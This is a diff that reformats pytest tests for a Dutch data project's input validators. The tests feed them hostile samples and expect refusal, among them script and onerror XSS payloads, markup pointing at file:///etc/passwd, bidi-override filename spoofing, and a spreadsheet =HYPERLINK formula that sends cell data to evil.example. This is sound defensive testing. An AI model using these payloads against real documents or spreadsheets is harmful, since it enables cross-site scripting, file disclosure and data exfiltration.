@@ -82,28 +82,40 @@ def test_messages_are_clipped():
     assert len(clip("x" * 1_000_000, 400)) < 450
 
 
-@pytest.mark.parametrize("text, words", [
-    ('Jaarstukken 2025<a rel="attachment" href="file:///etc/passwd">.</a>', "HTML"),
-    ("<script>alert(1)</script>", "HTML"),
-    ("titel<img src=x onerror=alert(1)>", "HTML"),
-    ("regel een\nregel twee", "regeleinde"),
-    ("carriage\rreturn", "regeleinde"),
-    ("nul\x00teken", "U+0000"),
-    ("escape\x1b[31m", "U+001B"),
-    ("bel\x07", "U+0007"),
-    ("ok\u202efdp.exe", "U+202E"),
-    ("zero\u200bwidth", "U+200B"),
-    ('=HYPERLINK("http://evil.example/?x="&A1;"klik")', "formule"),
-    ("+31 6 1234", "formule"),
-    ("@SUM(A1)", "formule"),
-])
+@pytest.mark.parametrize(
+    "text, words",
+    [
+        ('Jaarstukken 2025<a rel="attachment" href="file:///etc/passwd">.</a>', "HTML"),
+        ("<script>alert(1)</script>", "HTML"),
+        ("titel<img src=x onerror=alert(1)>", "HTML"),
+        ("regel een\nregel twee", "regeleinde"),
+        ("carriage\rreturn", "regeleinde"),
+        ("nul\x00teken", "U+0000"),
+        ("escape\x1b[31m", "U+001B"),
+        ("bel\x07", "U+0007"),
+        ("ok\u202efdp.exe", "U+202E"),
+        ("zero\u200bwidth", "U+200B"),
+        ('=HYPERLINK("http://evil.example/?x="&A1;"klik")', "formule"),
+        ("+31 6 1234", "formule"),
+        ("@SUM(A1)", "formule"),
+    ],
+)
 def test_text_rules_refuse(text, words):
     reason = text_problem(text)
     assert reason is not None and words in reason, reason
 
 
-@pytest.mark.parametrize("text", ["Jaarstukken 2024", "45,9% (2.261 van 4.923)", "kosten < 8 jaar", "t/m november",
-                                  "Oekraïners", "‘Doel gehaald’ – ja"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Jaarstukken 2024",
+        "45,9% (2.261 van 4.923)",
+        "kosten < 8 jaar",
+        "t/m november",
+        "Oekraïners",
+        "‘Doel gehaald’ – ja",
+    ],
+)
 def test_text_rules_accept_ordinary_dutch(text):
     assert text_problem(text) is None
 
@@ -112,8 +124,9 @@ def test_blank_required_text_is_refused():
     assert "leeg" in text_problem("   ", required=True)
 
 
-@pytest.mark.parametrize("text, ok", [("2025", True), ("٢٠٢٥", False), ("２０２５", False), ("46.0", True),
-                                      ("４６.０", False), ("-3", True)])
+@pytest.mark.parametrize(
+    "text, ok", [("2025", True), ("٢٠٢٥", False), ("２０２５", False), ("46.0", True), ("４６.０", False), ("-3", True)]
+)
 def test_numbers_are_ascii_digits(text, ok):
     assert ascii_number(text) is ok
 
@@ -121,16 +134,23 @@ def test_numbers_are_ascii_digits(text, ok):
 HEADER = "year,measure,value,source,table,reference_date,provisional,note\n"
 
 
-@pytest.mark.parametrize("row, column, words", [
-    ("٢٠٢٣,realisatie,45.9,doc_a,Tabel 2,,false,", "year", "heel jaartal"),
-    ("2023,realisatie,４６.０,doc_a,Tabel 2,,false,", "value", "in cijfers 0-9"),
-    ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x00met nul", "note", "U+0000"),
-    ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x1b[31m", "note", "U+001B"),
-    ("2023,realisatie,45.9,doc_a,Tabel\u200b 2,,false,", "table", "U+200B"),
-    ("2023,realisatie,45.9,doc_a,Tabel 2,,false,\u202eevil", "note", "U+202E"),
-    ('2023,realisatie,45.9,doc_a,Tabel 2,,false,"=HYPERLINK(""http://evil.example/"";""klik"")"', "note", "formule"),
-    ('2023,realisatie,45.9,doc_a,Tabel 2,,false,<img src="file:///etc/passwd">', "note", "HTML"),
-])
+@pytest.mark.parametrize(
+    "row, column, words",
+    [
+        ("٢٠٢٣,realisatie,45.9,doc_a,Tabel 2,,false,", "year", "heel jaartal"),
+        ("2023,realisatie,４６.０,doc_a,Tabel 2,,false,", "value", "in cijfers 0-9"),
+        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x00met nul", "note", "U+0000"),
+        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,noot\x1b[31m", "note", "U+001B"),
+        ("2023,realisatie,45.9,doc_a,Tabel\u200b 2,,false,", "table", "U+200B"),
+        ("2023,realisatie,45.9,doc_a,Tabel 2,,false,\u202eevil", "note", "U+202E"),
+        (
+            '2023,realisatie,45.9,doc_a,Tabel 2,,false,"=HYPERLINK(""http://evil.example/"";""klik"")"',
+            "note",
+            "formule",
+        ),
+        ('2023,realisatie,45.9,doc_a,Tabel 2,,false,<img src="file:///etc/passwd">', "note", "HTML"),
+    ],
+)
 def test_validate_refuses_silent_changes(mini_data, row, column, words):
     from sdlib.data.validate import validate_all
 
@@ -144,7 +164,7 @@ def test_validate_refuses_markup_in_a_source_title(mini_data):
 
     path = mini_data / "sources.csv"
     lines = path.read_text(encoding="utf-8").splitlines()
-    lines[1] = lines[1].replace(lines[1].split(",")[1], 'Doc<script>alert(1)</script>', 1)
+    lines[1] = lines[1].replace(lines[1].split(",")[1], "Doc<script>alert(1)</script>", 1)
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
     problems = validate_all(mini_data)
     assert any(p.row == 2 and p.column == "title" and "HTML" in p.message for p in problems), problems
